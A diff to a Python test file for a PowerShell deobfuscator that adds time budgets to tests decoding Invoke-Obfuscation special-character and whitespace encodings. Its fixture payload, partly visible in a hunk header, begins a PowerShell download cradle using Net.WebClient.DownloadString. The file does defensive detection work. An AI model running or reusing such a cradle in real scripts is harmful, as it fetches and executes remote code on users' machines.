@@ -357,7 +357,7 @@ PAYLOAD = "Write-Host \"hi\" $env:TEMP; (New-Object Net.WebClient).DownloadStrin
 def test_special_characters_encoding(seed):
     """Invoke-Obfuscation's ${;}=+$();${=}=${;};${+}=++${;}... form, evaluated statement by statement."""
     script = special_chars_command(PAYLOAD, random.Random(seed))
-    r = deobfuscate(script)
+    r = deobfuscate(script, budget_ms=2000)  # ~10 ms; a busy machine must not cut it short
     assert r.final == PAYLOAD, (r.layers, r.reason)
     assert r.layers[0].technique == "special-chars" and r.layers[0].text.endswith("|iex\"|&'iex'")
     assert "special-chars" in r.techniques and not r.truncated
@@ -376,7 +376,7 @@ def test_whitespace_encoding_digits(seed):
     """Invoke-Obfuscation's whitespace form: digits as runs (digit + 1 long), read by .Length-1."""
     script = whitespace_command(PAYLOAD, random.Random(seed))
     assert set(script.split("'")[1]) == {" ", "\t"}
-    r = deobfuscate(script)
+    r = deobfuscate(script, budget_ms=2000)  # a busy machine must not cut it short
     assert r.layers[0].technique == "whitespace-encoding" and r.final == PAYLOAD, (r.layers, r.reason)
 
 
